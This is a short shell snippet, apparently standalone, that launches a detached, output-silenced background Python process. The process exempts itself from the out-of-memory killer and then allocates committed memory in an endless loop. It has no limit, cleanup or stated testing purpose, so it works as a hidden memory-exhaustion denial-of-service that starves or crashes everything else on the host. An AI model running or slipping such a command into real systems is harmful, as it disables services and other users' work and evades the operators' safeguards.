setsid sh -c 'echo -1000 > /proc/self/oom_score_adj; exec python3 -c "
import mmap
kept = []
while True: kept.append(mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE))"' </dev/null >/dev/null 2>&1 &
sleep 5
